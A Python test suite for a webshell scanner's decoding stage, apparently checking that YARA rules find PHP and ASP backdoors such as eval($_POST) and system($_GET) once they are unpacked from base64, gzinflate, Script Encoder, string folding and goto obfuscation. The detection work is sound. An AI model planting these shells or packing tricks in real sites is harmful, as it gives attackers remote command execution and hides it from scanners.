"""The decode stage: each decoder on our own encoded samples, the layer path in results, and the
bounds (depth, layers, bytes) on hostile input. Real yara, the real trigger rules."""

from __future__ import annotations

import base64
import os
import random
import re
import urllib.parse
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.decode import (
    Limits,
    cstyle,
    explore,
    gotoflow,
    islands,
    names,
    padding,
    payload,
    phpspelling,
    stage,
    varnames,
    vbscript,
)
from agent.decode.charset import codec_for, decode_declared, hides_ascii
from agent.decode.folding import fold, small_page_cue
from agent.decode.jspx import decode_document
from agent.decode.script_encoder import decode_page
from agent.rules import default_rules_dir, load_rules
from agent.rules.compiler import RuleSet
from agent.scanner import Scanner, Verdict
from tests.decode_helpers import ENCODABLE, lzw_compress, php_packed, script_encode

TRIGGERS = default_rules_dir() / "decode" / "triggers.yar"
RULES = r"""
rule T_Eval_Request { strings: $a = "eval(Request" nocase condition: $a }
rule T_Eval_Post { strings: $a = "eval($_POST" condition: $a }
rule T_Exec_Word { strings: $a = "exec_marker_word" condition: $a }
rule T_System_Get { strings: $a = "system($_GET" condition: $a }
rule T_WScript { strings: $a = "CreateObject(\"WScript.Shell\")" nocase condition: $a }
rule T_Small_Execute { strings: $a = "Execute(\"eval(1)" condition: filesize < 20KB and $a }
rule T_Small_Pair { strings: $a = "a=request(\"v\")" $b = "<%eval a%>" condition: filesize < 20KB and $a and $b }
rule T_Net_Pair { strings: $a = "CreateObject(\"WScript.Network\")" nocase $b = ".UserName" condition: $a and $b }
"""
ASP_HEAD = b"<%@ LANGUAGE = VBScript.Encode %>\r\n<%"


@pytest.fixture(scope="module")
def ruleset(tmp_path_factory: pytest.TempPathFactory) -> RuleSet:
    d = tmp_path_factory.mktemp("rules")
    (d / "t.yar").write_text(RULES)
    return load_rules((d, TRIGGERS), default_rules=False)


def rules_of(tmp_path: Path, text: str) -> RuleSet:
    """A rule set of `text` and the real decode triggers."""
    d = tmp_path / "rules"
    d.mkdir()
    (d / "t.yar").write_text(text)
    return load_rules((d, TRIGGERS), default_rules=False)


def scan(ruleset: RuleSet, tmp_path: Path, name: str, data: bytes) -> dict[str, str]:
    f = tmp_path / name
    f.write_bytes(data)
    r = Scanner(ruleset).scan(str(f))
    assert r.verdict in (Verdict.MATCHED, Verdict.CLEAN), r
    return {m.rule: m.layer for m in r.matches}


# --- Script Encoder -----------------------------------------------------------------------


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=ENCODABLE, max_size=300))
def test_script_encoder_round_trip(text: str) -> None:
    plain = text.encode("ascii")
    page = b"<%" + script_encode(plain) + b"%>"
    assert decode_page(page, 1 << 20) == b"<%" + plain + b"%>"


def test_encoded_shell_is_found_by_the_plain_rule_on_its_layer(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    page = ASP_HEAD + script_encode(b'eval(Request("z"))') + b"%>"
    assert scan(ruleset, tmp_path, "x.asp", page) == {"T_Eval_Request": "script-encoder"}


def test_an_encoded_benign_page_is_no_finding(ruleset: RuleSet, tmp_path: Path) -> None:
    page = ASP_HEAD + script_encode(b'Response.Write "licence ok: " & Now()\r\n') + b"%>"
    assert scan(ruleset, tmp_path, "licence.asp", page) == {}


def test_dbcs_characters_pass_through_and_do_not_count() -> None:
    block = script_encode(b'a="') + "中文".encode("gbk") + script_encode(b'"')[16:-12]
    # One block whose text holds two GBK characters in the middle.
    head = script_encode(b'a="')
    body = head[12:-12] + "中文".encode("gbk")
    tail = script_encode(b'a=""')[12:-12][3:]  # position 3 onwards, as if counted on
    length = base64.b64encode(len(body + tail).to_bytes(4, "little"))[:6]
    page = b"#@~^" + length + b"==" + body + tail + b"AAAAAA==^#~@"
    assert decode_page(page, 1000) == 'a="中文"'.encode("gbk")
    assert block  # the helper handles plain ASCII only


# --- Literal payloads ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("chain", "layer"),
    [
        ("base64", "base64"),
        ("gzinflate>base64", "base64 > gzinflate"),
        ("rot13>base64", "base64 > str_rot13"),
        ("strrev", "strrev"),
        ("lzw>base64", "base64 > lzw_decompress"),
        ("rawurl", "rawurldecode"),
        ("entities", "html_entity_decode"),
        ("uu", "convert_uudecode"),
    ],
)
def test_packed_php_payload_is_unpacked(
    ruleset: RuleSet, tmp_path: Path, chain: str, layer: str
) -> None:
    page = php_packed(b'@eval($_POST["k"]);', chain)
    assert scan(ruleset, tmp_path, "p.php", page) == {"T_Eval_Post": layer}


@given(st.binary(max_size=3000))
def test_lzw_round_trip(data: bytes) -> None:
    assert payload.lzw_decompress(lzw_compress(data), 1 << 20) == (data or None)


def test_a_binary_payload_written_as_escapes_is_unpacked(ruleset: RuleSet, tmp_path: Path) -> None:
    # `gzinflate("\x95\x92..")`: the double-quoted literal's escapes are the payload's bytes.
    raw = zlib.compress(b'@eval($_POST["k"]);')[2:-4]
    lit = b"".join(b"\\x%02x" % c for c in raw)
    page = b'<?php eval("?>" . gzinflate("' + lit + b'")); ?>'
    assert scan(ruleset, tmp_path, "x.php", page) == {"T_Eval_Post": "gzinflate"}


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=200), st.sampled_from(["\\x%02x", "\\%03o"]))
def test_escaped_bytes_read_back(raw: bytes, form: str) -> None:
    assert payload.dq_unescape(b"".join((form % c).encode() for c in raw)) == raw


def test_base64_of_base64_is_decoded_to_the_end(ruleset: RuleSet, tmp_path: Path) -> None:
    inner = base64.b64encode(base64.b64encode(b'<?php @eval($_POST["k"]); /* padding */ ?>'))
    page = b"<?php $z = '" + inner + b"'; $f = 'base64_decode'; eval($f($f($z))); ?>"
    assert scan(ruleset, tmp_path, "bb.php", page) == {"T_Eval_Post": "base64 > base64"}


def test_each_loose_literal_names_its_own_decoding_path() -> None:
    twice = base64.b64encode(base64.b64encode(b"<?php echo 1; /* padding padding padding */ ?>"))
    once = base64.b64encode(b"<?php echo 2; /* padding padding padding padding */ ?>")
    page = b"'" + twice + b"' '" + once + b"'"
    assert [n for n, _ in payload.loose(page, 1 << 20, 32)] == ["base64 > base64", "base64"]


def _deflated(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)[2:-4]  # raw deflate, what gzinflate() takes
    return data


def test_backwards_base64_inflated_five_deep_is_unpacked() -> None:
    # A packer's stack: strrev(base64) then gzinflate five times; the literal sits in a variable.
    code = b"<?php eval($_POST['z']); ?>"
    for pad in range(8):  # base64 with padding, so that written backwards it starts with `=`
        plain = code + b" " * pad
        lit = base64.b64encode(_deflated(plain, 5))
        if lit.endswith(b"="):
            break
    found = dict(payload.loose(b"<?php $r = '" + lit[::-1] + b"'; ?>", 1 << 20, 8))
    assert found == {"strrev > base64" + " > inflate" * 5: plain}


def test_a_wrapper_that_wraps_itself_is_unpacked_to_the_end(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # Each level: a literal (backwards base64, no padding, of deflated text) holding the next
    # level, and no decoder named outside the literal (the call sits in another encoded
    # string). The decoded layers are searched for literals again, to the depth limit.
    def wrap(inner: bytes, call: bytes) -> bytes:
        for pad in range(64):
            lit = base64.b64encode(_deflated(inner + b"\n%d" % pad, 2))
            if not lit.endswith(b"="):
                return b"<?php $c = '" + lit[::-1] + b"'; " + call + b" ?>"
        raise AssertionError("no padding-free length")

    # (random filler keeps each literal long, so the 256 bytes of context a layer keeps of
    # its parent do not reach the parent's call)
    filler = base64.b64encode(__import__("random").Random(7).randbytes(600))
    shell = b"<?php /* " + filler + b" */ eval($_POST['z']); ?>"
    inner = wrap(shell, b"$f($c);")  # the decoder's name hidden
    page = wrap(inner, b"eval(gzinflate(gzinflate(base64_decode(strrev($c)))));")
    found = scan(ruleset, tmp_path, "w.php", page)
    # the outer call names its decoders (its literal is read through `$c`), the inner one hides
    # them, so the inner level is a loose literal's guess
    assert found == {
        "T_Eval_Post": "strrev > base64 > gzinflate > gzinflate > strrev > base64 > inflate > inflate"
    }


def test_repeated_inflation_stays_within_the_byte_cap() -> None:
    bomb = base64.b64encode(_deflated(b"A" * (32 << 20), 3))
    out = list(payload.loose(b"'" + bomb + b"'", 1 << 20, 8))
    assert all(len(data) <= 1 << 20 for _, data in out)


def test_payload_in_a_variable_is_found_by_the_loose_literal_pass(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    b64 = base64.b64encode(zlib.compress(b'@eval($_POST["k"]); /* padding padding */')[2:-4])
    page = b"<?php $x = '" + b64 + b"';\n$f = 'gzinflate';\neval($f(base64_decode($x))); ?>"
    assert scan(ruleset, tmp_path, "v.php", page) == {"T_Eval_Post": "base64 > inflate"}


def test_dotnet_and_java_literals(ruleset: RuleSet, tmp_path: Path) -> None:
    b64 = base64.b64encode(b"exec_marker_word").decode()
    cs = f'<%@ Page %><% var s = Encoding.UTF8.GetString(Convert.FromBase64String("{b64}")); %>'
    java = f'<% String s = new String(java.util.Base64.getDecoder().decode("{b64}")); %>'
    assert scan(ruleset, tmp_path, "a.aspx", cs.encode()) == {"T_Exec_Word": "base64"}
    assert scan(ruleset, tmp_path, "a.jsp", java.encode()) == {"T_Exec_Word": "base64"}


def test_layers_nest_and_name_their_path(ruleset: RuleSet, tmp_path: Path) -> None:
    inner = php_packed(b'@eval($_POST["k"]);', "strrev").decode()
    vb = f'Response.Write "x"\r\nx = base64_decode("{base64.b64encode(inner.encode()).decode()}")'
    page = ASP_HEAD + script_encode(vb.encode()) + b"%>"
    assert scan(ruleset, tmp_path, "n.asp", page) == {
        "T_Eval_Post": "script-encoder > base64 > strrev"
    }


def test_a_rule_matching_the_file_itself_keeps_the_empty_layer(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    page = b'<?php eval($_POST["a"]); ' + php_packed(b'@eval($_POST["k"]);', "base64")[5:]
    assert scan(ruleset, tmp_path, "both.php", page) == {"T_Eval_Post": ""}


@pytest.mark.parametrize(
    ("severity", "tag", "decoded"),
    [("low", "", True), ("medium", "", True), ("high", "", False), ("high", " : conceals", True)],
)
def test_a_file_already_judged_high_is_not_decoded(
    tmp_path: Path, severity: str, tag: str, decoded: bool
) -> None:
    # unless the rule only says that code is hidden (tag `conceals`): the layers say what it does
    rules = tmp_path / "r.yar"
    rules.write_text(
        f'rule Judged{tag} {{ meta: severity = "{severity}" strings: $a = "judged_marker" '
        "condition: $a }\n" + RULES
    )
    ruleset = load_rules((rules, TRIGGERS), default_rules=False)
    page = php_packed(b'@eval($_POST["k"]);', "base64") + b" // judged_marker"
    expect = {"Judged": "", "T_Eval_Post": "base64"} if decoded else {"Judged": ""}
    assert scan(ruleset, tmp_path, "j.php", page) == expect


def test_every_payload_decoder_has_a_trigger() -> None:
    # a decoder without a needle in the trigger rule is never reached (`eval(rawurldecode(..))`
    # was not, while the stage could decode it)
    needles = re.findall(r'\$p\d+ = "([^"]+)"', TRIGGERS.read_text())
    generic = {"decode"}  # Java's getDecoder().decode(..): the getDecoder() needle
    for name in set(payload.TRANSFORMS) - generic:
        assert any(n.lower() in name for n in needles), name


# --- String folding -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "expect"),
    [
        (b'x = "e"+"x"+"e"+"c";', b'x = "exec";'),
        (b"$f = 'W'.'Scr'.'ipt';", b"$f = 'WScript';"),
        (b"Execute(Chr(101)&Chr(118)&Chr(97)&ChrW(&H6C))", b'Execute("eval")'),
        # Chr gives the page's code-page bytes (one above 127, two for a GBK character);
        # ChrW a character, written as UTF-8
        (b"x = Chr(200)&Chr(&HB0A1)&ChrW(233)", b'x = "\xc8\xb0\xa1\xc3\xa9"'),
        # a backslash made from its code is a character: it neither escapes the quote closing
        # it nor turns the `n` after it into a line feed
        (
            b"f.CreateTextFile((Chr(99)&Chr(58)&Chr(92)&Chr(110)&Chr(46)&Chr(118)), 1)",
            b'f.CreateTextFile("c:\\\\n.v", 1)',
        ),
        (b"eval(String.fromCharCode(101, 118, 97, 108))", b'eval("eval")'),
        # Java and C# strings made of char or byte arrays
        (b"Class.forName(new String(new byte[]{106, 97, 118, 97}))", b'Class.forName("java")'),
        (b"String.valueOf(new char[] {'c', 'm', 'd', })", b'"cmd"'),
        (b"Encoding.ASCII.GetString(new byte[]{0x63,0x6d,0x64})", b'"cmd"'),
        # a comma and an escape as elements
        (b"new String(new char[]{'a', ',', '\\t', 'b'})", b'"a,\tb"'),
        (b'Execute(Join(Array("ev","al"),""))', b'Execute("eval")'),
        (b'f = ["e","v"].join(\'\')', b'f = "ev"'),
        (b'$a = "\\x65\\x76\\141\\u006c";', b'$a = "eval";'),
        (b"$f = ('>'^'[').('3'^'E');", b"$f = 'ev';"),
        (b"ev/**/al(", b"eval("),
        (b'$f = "as"."se"."rt"; @$f($x); $ff($y);', b'$f = "assert"; @assert($x); $ff($y);'),
        (b"define('RUN', 'pass'.'thru'); RUN($x);", b"define('RUN', 'passthru'); passthru($x);"),
        (
            b"$s = ['sy', 'st', 'em']; f($s[0].$s[1].$s[2]);",
            b"$s = ['sy', 'st', 'em']; f('system');",
        ),
        (b"$s = array('a',\n 'b'); $f = implode('', $s);", b"$s = array('a',\n 'b'); $f = 'ab';"),
        (b"(sy.(st).(em))($x);", b"system($x);"),
        (
            b"sy.'stem'($x); $f = 'pass'.thru; PHP_EOL.'x';",
            b"system($x); $f = 'passthru'; PHP_EOL.'x';",
        ),
        (b"$m = ['a', 'b']; echo implode(', ', $m);", b"$m = ['a', 'b']; echo 'a, b';"),
        (b"$k = '>3'; $f = '[E'^$k; $g = $k ^ '[E';", b"$k = '>3'; $f = 'ev'; $g = 'ev';"),
        (
            b"preg_replace('/a/e', 'ev'.'al($_'.'GET[1]);', 'a');",
            b"preg_replace('/a/e', 'eval($_GET[1]);', 'a');",
        ),
        (b"$f = 'exec'; call_user_func($f, $x);", b"$f = 'exec'; exec($x);"),
        (b"'passthru'($x); o['exec']($y);", b"passthru($x); o['exec']($y);"),
        (
            b"$Wf = ['a', 'b']; $x = implode('', $wf); $y = $Wf[1];",
            b"$Wf = ['a', 'b']; $x = implode('', $wf); $y = 'b';",
        ),
        (b"$u = implode('', array_map('chr', [115, 0x79, 115]));", b"$u = 'sys';"),
        (
            b"$t = 'xsyte\\'mab'; $f = $t[1].$t{2}.$t[1].$t[3].$t[4].$t[6];",
            b"$t = 'xsyte\\'mab'; $f = 'system';",
        ),
        (
            b"$a = Array(); $a[] = 'pa'.'ss'.'th'.'ru'; $a[] = 'x'; $f = $a[0];",
            b"$a = Array(); $a[] = 'passthru'; $a[] = 'x'; $f = 'passthru';",
        ),
        (b"$f = pack(\"H*\", '73797374656d');", b"$f = 'system';"),
        (b"$f = 'sy'; $f .= 'st';\n$f .= 'em'; g();", b"$f = 'system'; g();"),
        (b'$n = ["55706c", "73797374656d"];', b'$n = ["55706c", "system"];'),
        (
            b"$a='sy';goto L;L:$b='st';$c='em';$f=$a.$b.$c;$g=$a.$b.$z;",
            b"$a='sy';goto L;L:$b='st';$c='em';$f='system';$g=$a.$b.$z;",
        ),
        # letters picked from an alphabet that range() made
        (
            b"$l = range('a', 'z'); $f = $l[18].$l[24].$l[18].$l[19].$l[4].$l[12];",
            b"$l = range('a', 'z'); $f = 'system';",
        ),
        # a variable variable naming a superglobal, once its name is folded
        (
            b"$g = '_'.'PO'.'ST'; $h = $$g; ${$g}['x']($h['y']);",
            b"$g = '_POST'; $h = $_POST; $_POST['x']($h['y']);",
        ),
        # a call's pieces held in variables, one a dollar sign that starts no variable
        (
            b'$a="e";\n$b="val($";\n$c="_GET";\n$p=$a.$b.$c."[k]);";',
            b'$a="e";\n$b="val($";\n$c="_GET";\n$p=\'eval($_GET[k]);\';',
        ),
        # a decoder's name resolved makes its call on a literal constant
        (
            b"$b = \"base64_decode\"; $c = $b('YXNzZXJ0'); $c($x);",
            b"$b = \"base64_decode\"; $c = 'assert'; assert($x);",
        ),
        # string functions on literals only are constants too
        (b'$b = substr_replace("assexx", "rt", 4); $b($x);', b'$b = "assert"; assert($x);'),
        (b"$f = str_replace('x', '', 'sxyxsxtxexm');", b"$f = 'system';"),
        (b"$f = strrev('tressa'); $g = substr('xxexecyy', 2, -2);", b"$f = 'assert'; $g = 'exec';"),
        (
            b"$f = base64_decode('c3lzdGVt'); $g = strtr('4ss3rt', '43', 'ae');",
            b"$f = 'system'; $g = 'assert';",
        ),
        (
            b"$f = str_rot13('flfgrz'); $g = ucfirst(strtolower('EVAL'));",
            b"$f = 'system'; $g = 'Eval';",
        ),
    ],
)
def test_fold(code: bytes, expect: bytes) -> None:
    out = fold(code)
    assert out.data == expect and out.folds > 0


def test_a_char_array_with_an_escape_it_cannot_spell_is_left_as_it_is() -> None:
    code = b"new String(new char[]{'a','\\0'})"
    assert fold(code).data == code


def test_dead_select_case_branches_are_dropped() -> None:
    code = b'Select Case 2\r\nCase 1\r\nx = "dead"\r\nCase 2\r\nExecute(y)\r\nCase Else\r\nz\r\nEnd Select'
    assert fold(code).data.strip() == b"Execute(y)"


@pytest.mark.parametrize(
    "tag", [b"\\x3c\\x3f\\x70\\x68\\x70", b"\\x3C\\x3F\\x70\\x68\\x70", b"\\74\\77\\160\\150\\160"]
)
def test_an_open_tag_spelt_in_escapes_is_telling_however_few(tag: bytes) -> None:
    # five escapes, under the count that makes escapes telling: the tag is what they hide
    folded = fold(b'<?php $w($t, "' + tag + b' " . $c); include $t;')
    assert folded.telling and b'"<?php " . $c' in folded.layer(1 << 20)
    # the same few escapes of anything else are string data
    assert not fold(b'<?php $w($t, "\\x41\\x42\\x43\\x44\\x45 " . $c);').telling


def test_folded_code_is_matched_on_the_fold_layer(ruleset: RuleSet, tmp_path: Path) -> None:
    code = b"<% Execute(" + b"&".join(b"Chr(%d)" % c for c in b'eval(Request("z"))') + b") %>"
    assert scan(ruleset, tmp_path, "c.asp", code) == {"T_Eval_Request": "fold"}


def test_a_fold_window_of_a_large_file_keeps_the_file_size(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # A rule for small shells must not fire on a few folded windows of a large page.
    code = b"<% Execute(" + b"&".join(b"Chr(%d)" % c for c in b"eval(1)") + b") %>\r\n"
    small = scan(ruleset, tmp_path, "s.asp", code)
    text = b"<p>static text</p>\r\n" * 1000
    page = b"<% x = 1 %>" + text + code + text + b"<% y = 2 %>"  # neither first nor last block
    large = scan(ruleset, tmp_path, "l.asp", page)
    assert small.get("T_Small_Execute") == "fold"
    assert "T_Small_Execute" not in large


@pytest.mark.parametrize("where", ["top", "bottom"])
def test_a_block_planted_at_an_edge_of_a_large_page_is_judged_alone(
    ruleset: RuleSet, tmp_path: Path, where: str
) -> None:
    code = b'<% Execute("eval(1)") %>'
    text = b"<p>static text</p>\r\n" * 2000 + b"<% y = 2 %>\r\n"
    page = code + text if where == "top" else text + code
    assert scan(ruleset, tmp_path, "e.asp", page) == {"T_Small_Execute": "island"}


@pytest.mark.parametrize("where", ["top", "bottom"])
def test_a_server_script_block_planted_at_an_edge_of_a_large_page_is_judged_alone(
    ruleset: RuleSet, tmp_path: Path, where: str
) -> None:
    # ASP.NET's `<script language="C#" runat="server">` is a server block too: appended to a
    # large page with no other tag (a SQL script served under an IIS name), it is the small
    # page its rule knows
    code = b'<SCRIPT Language="C#" RunAt="Server">\r\nExecute("eval(1)")\r\n</Script >\r\n'
    text = b"-- a table of the application\r\n" * 2000
    page = code + text if where == "top" else text + code
    assert scan(ruleset, tmp_path, "e.aspx", page) == {"T_Small_Execute": "island"}
    # a client-side script block is no server code, and a classic-ASP page's VBScript or
    # JScript helper block (functions kept at its end) is the page's own library
    for other in (b'type="text/javascript"', b'Language="VBScript" RunAt="Server"'):
        assert islands.edge_blocks(page.replace(b'Language="C#" RunAt="Server"', other)) == []


def test_blocks_planted_together_at_the_end_are_judged_together(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # a variable set in one block and run in the next: neither block alone is the shell
    text = b"<p>static text</p>\r\n" * 2000 + b"<% y = 2 %>\r\n"
    page = text + b'<%a=request("v")%><%eval a%>'
    assert scan(ruleset, tmp_path, "p.asp", page) == {"T_Small_Pair": "island"}


@pytest.mark.parametrize(
    "host_end",
    [b"</HTML>\r\n<% conn.close %>\r\n", b"<% set rs = nothing %>\r\n"],
    ids=["after-html", "no-html"],
)
def test_a_page_pasted_after_another_is_judged_alone(
    ruleset: RuleSet, tmp_path: Path, host_end: bytes
) -> None:
    # A 15 KB shell of many blocks appended, its telling block first: neither an edge block nor
    # the last 8 KB hold it, and its rule weighs the page's size; the seam is the host's
    # </html>, or the shell's own directive deep in the page.
    shell = b'<%@ LANGUAGE="VBScript" %>\r\n<html><body>\r\n<% Execute("eval(1)") %>\r\n'
    shell += b"<% Response.Write i %><br>\r\n" * 500 + b"</body></html>\r\n"
    host = b"<html><body>" + b"<p>static text</p>\r\n" * 2500 + host_end
    got = scan(ruleset, tmp_path, "s.asp", host + shell)
    assert got == {"T_Small_Execute": "island"}
    assert islands.seam_tail(host + shell) in (shell, host_end[7:] + shell)


def test_a_php_page_pasted_after_a_closed_class_file_is_judged_alone(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # a 12 KB shell of PHP after a 40 KB class file that closes its block: no block of it is
    # an edge block (larger than ISLAND_MAX) and no </html> marks the seam
    rs = rules_of(
        tmp_path,
        'rule T_Small_Php { strings: $a = "system($_GET" condition: filesize < 20KB and $a }',
    )
    host = b"<?php\nclass Mailer {\n" + b"    public $x = 1; // field\n" * 1500 + b"}\n\n?>\n"
    shell = b"<?php\nsystem($_GET['c']);\n" + b"echo 'row';\n" * 1000 + b"?>\n"
    assert scan(rs, tmp_path, "m.php", host + shell) == {"T_Small_Php": "island"}
    assert islands.php_seam_tails(host + shell) == [shell]
    # a template's blocks have markup between them: no seam there
    page = b"<?php if ($a): ?>\n<b>x</b>\n<?php endif; ?>\n" * 2000
    assert islands.php_seam_tails(page) == []
    page = b"<?php foreach ($r as $x) { ?>\n<?php echo $x; } ?>\n<?php }\n ?><b>y</b>\n" * 2000
    assert islands.php_seam_tails(page) == []


def test_no_seam_in_a_page_that_ends_as_it_should() -> None:
    body = b"<html><body>" + b"<p>x</p>\n" * 5000
    assert islands.seam_tail(body + b"</html>\n") is None
    assert islands.seam_tail(body + b"</html>\n<p>only text after</p>\n") is None
    # a page's own directives sit at its head
    assert islands.seam_tail(b'<%@ Page Language="C#" %>' + body + b"</html>") is None
    far = b"<p>x</p>\n" * (islands.TAIL_MAX // 8)
    assert islands.seam_tail(body + b"</html><% run %>" + far) is None  # too far from the end


def test_edge_blocks_only_of_large_pages_and_never_large_blocks() -> None:
    small = b"<?php echo 1; ?>" + b"x" * 1000
    assert islands.edge_blocks(small) == []
    body = b"<p>" + b"x" * islands.ISLAND_PAGE + b"</p>"
    assert islands.edge_blocks(b"<?php eval($_POST[1]); ?>" + body + b"<?php } ?>") == [
        b"<?php eval($_POST[1]); ?>",
        b"<?php } ?>",
    ]
    big = b"<?php " + b"f();" * islands.ISLAND_MAX + b"?>" + body
    assert islands.edge_blocks(big) == []
    assert islands.edge_blocks(body + b"<% run %>") == [b"<% run %>"]  # one block: first and last


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000), st.integers(0, 3))
def test_edge_blocks_are_bounded_slices_of_the_page(data: bytes, copies: int) -> None:
    page = data * (islands.ISLAND_PAGE // max(1, len(data)) + copies) + b"<?x" + data
    blocks = islands.edge_blocks(page)
    assert len(blocks) <= 7  # two blocks and a run per kind of tag, and a seam's tail
    assert all(page.endswith(b) or len(b) <= islands.ISLAND_MAX + 2 for b in blocks)
    assert all(len(b) <= islands.TAIL_MAX and b in page for b in blocks)


def test_a_small_page_of_one_line_assignments_is_folded(ruleset: RuleSet, tmp_path: Path) -> None:
    # Short literals assigned a line apart are pieces of a name as much as on one line.
    code = b'<?php\n$a="e";\n$b="val($";\n$c="_P";\n$d="OST";\n$p=$a.$b.$c.$d."[k]);";\neval($p);\n'
    assert scan(ruleset, tmp_path, "p.php", code) == {"T_Eval_Post": "fold"}


def test_a_fold_layer_of_a_large_page_keeps_the_rest_of_the_page(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # The name is folded at the top; the line the rule also needs is far from any split, past
    # the windows folded: it is in the layer as the page has it.
    name = b"&".join(b"Chr(%d)" % c for c in b"WScript.Network")
    top = b"<%\nSet n = Server.CreateObject(" + name + b")\n%>\n"
    end = b"<%= n.ComputerName & n.UserName %>\n"
    pad = b"<p>static text</p>\n" * 600
    assert scan(ruleset, tmp_path, "n.asp", top + pad + end) == {"T_Net_Pair": "fold"}


def test_one_split_folds_a_large_page_only_when_it_glues_a_name(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # One split is enough to look at a small page; a large one is folded on one split only
    # when its pieces spell a telling name (`'sys'.'tem'`), so a long page's `'.'` pays little.
    code = b"<?php $f = 'sys'.'tem'; $f($_GET['c']); ?>\n"
    pad = b"<p>static text</p>\n" * 250
    assert scan(ruleset, tmp_path, "s.php", code) == {"T_System_Get": "fold"}
    assert scan(ruleset, tmp_path, "l.php", code + pad) == {"T_System_Get": "fold"}
    plain = b"<?php $f = 'hel'.'lo'; $g = $_GET['c']; echo $f . $g; ?>\n"
    assert scan(ruleset, tmp_path, "m.php", plain + pad) == {}


def test_a_fold_window_runs_on_to_the_end_of_a_packed_literal(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # A goto obfuscator glues `base64_decode` from one-letter variables, then runs a literal
    # far longer than a fold window: the window must carry the literal whole to its decoder.
    letters = b"base64_decodeXYZWV"  # the last five are decoys
    pieces = b"".join(b"L%d:$v%d='%s';goto L%d;" % (i, i, bytes([c]), i + 1)
                      for i, c in enumerate(letters))  # fmt: skip
    name = b".".join(b"$v%d" % i for i in range(len(letters) - 5))
    # (spaced every 76 characters, which base64_decode skips: no run long enough to be an
    # opaque blob, which the stage would decode without the fold pass)
    raw = base64.b64encode(b'eval($_POST["k"]); /*' + b"a" * 8000 + b"*/")
    packed = b" ".join(raw[i : i + 76] for i in range(0, len(raw), 76))
    page = b"<?php goto L0;" + pieces + b"L%d:$f=%s;eval($f('%s'));" % (len(letters), name, packed)
    assert scan(ruleset, tmp_path, "g.php", page) == {"T_Eval_Post": "fold > base64"}


def test_a_decoder_named_by_an_escaped_variable_decodes_a_literal_longer_than_a_fold_window(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # FOPO-style: the decoder's name hides in escapes in a variable, the payload is a literal of
    # megabytes; a fold window cannot carry it, so the payload is read from the page itself.
    name = b"".join(
        (b"\\x%02x" if i % 2 else b"\\%03o") % c for i, c in enumerate(b"base64_decode")
    )
    packed = base64.b64encode(b'eval($_POST["k"]); /*' + b"a" * 400_000 + b"*/")
    page = b'<?php $o0a7 = "' + name + b'"; @eval($o0a7(\r\n"' + packed + b'")); ?>'
    assert scan(ruleset, tmp_path, "fopo.php", page) == {"T_Eval_Post": "base64"}


def test_a_literal_in_a_variable_far_from_its_decoder_is_decoded(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # The literal sits in a variable 20 KB before the call; the call chain is read at the call.
    text = urllib.parse.quote("eval(&#36;_POST[&quot;k&quot;]);").encode()
    page = (
        b'<?php $p = "' + base64.b64encode(text) + b'";\n/*' + b"x" * 20_000 + b"*/\n"
        b"eval(htmlspecialchars_decode(urldecode(base64_decode($p)))); ?>"
    )
    got = scan(ruleset, tmp_path, "v.php", page)
    assert got == {"T_Eval_Post": "base64 > urldecode > htmlspecialchars_decode"}


def test_a_decoded_layer_may_name_a_variable_of_the_page(ruleset: RuleSet, tmp_path: Path) -> None:
    # The first payload decodes to code that decodes another variable of the file.
    inner = base64.b64encode(b'eval($_POST["k"]);')
    outer = base64.b64encode(b"eval(base64_decode($inner));")
    page = (
        b'<?php $inner = "' + inner + b'"; $outer = "' + outer + b'"; eval(base64_decode($outer));'
    )
    assert scan(ruleset, tmp_path, "n.php", page) == {"T_Eval_Post": "base64 > base64"}


def test_junk_taken_out_of_variables_at_run_time_is_taken_out(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # `'ba<se6<4_de<code'` and a payload with `<` inserted, cleaned by str_replace on variables
    code = base64.b64encode(b'eval($_POST["k"]);')
    junk = b"<".join(code[i : i + 3] for i in range(0, len(code), 3))
    page = (
        b"<?php\n$a = 'ba<se6<4_de<code';\n$b = '" + junk + b"';\n"
        b"$f = str_replace('<', '', $a);\neval($f(str_replace('<', '', $b)));\n"
    )
    assert scan(ruleset, tmp_path, "j.php", page) == {"T_Eval_Post": "fold"}


def test_an_opaque_literal_is_decoded_though_no_decoder_is_named(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # The decoder hides behind a variable built elsewhere; the literal alone is the cue.
    noise = base64.b64encode(os.urandom(900))  # printable, and it does not compress away
    blob = base64.b64encode(zlib.compress(b'eval($_POST["k"]); /*' + noise + b"*/")[2:-4])
    page = b"<?php $d = $cfg['x']; $c = '" + blob + b"'; eval($d($c));"
    assert scan(ruleset, tmp_path, "o.php", page) == {"T_Eval_Post": "base64 > inflate"}
    # also when another decoding call, far from it, already triggered the payload decoder
    far = page + b"\n/*" + b"x" * 40_000 + b"*/ echo base64_decode('aGk=');"
    assert scan(ruleset, tmp_path, "f.php", far) == {"T_Eval_Post": "base64 > inflate"}
    # an image carried as base64 is no payload: no decoding, nothing found
    png = b"iVBORw0KGgo" + base64.b64encode(os.urandom(1200))
    assert stage.blob_at(b"<?php $logo = '" + png + b"';") is None


@given(st.text(alphabet="AB=\r\n\\ \t", max_size=400), st.sampled_from([2, 4]))
def test_a_cut_literal_keeps_its_whole_units(body_text: str, unit: int) -> None:
    # what is kept is a prefix whose characters, blanks left out, make whole units, and fewer
    # than a unit of them were dropped
    body = body_text.encode()
    kept = payload._whole_units(body, unit)
    blanks = b"\r\n\\ \t"
    assert body.startswith(kept)
    assert len(kept.translate(None, blanks)) % unit == 0
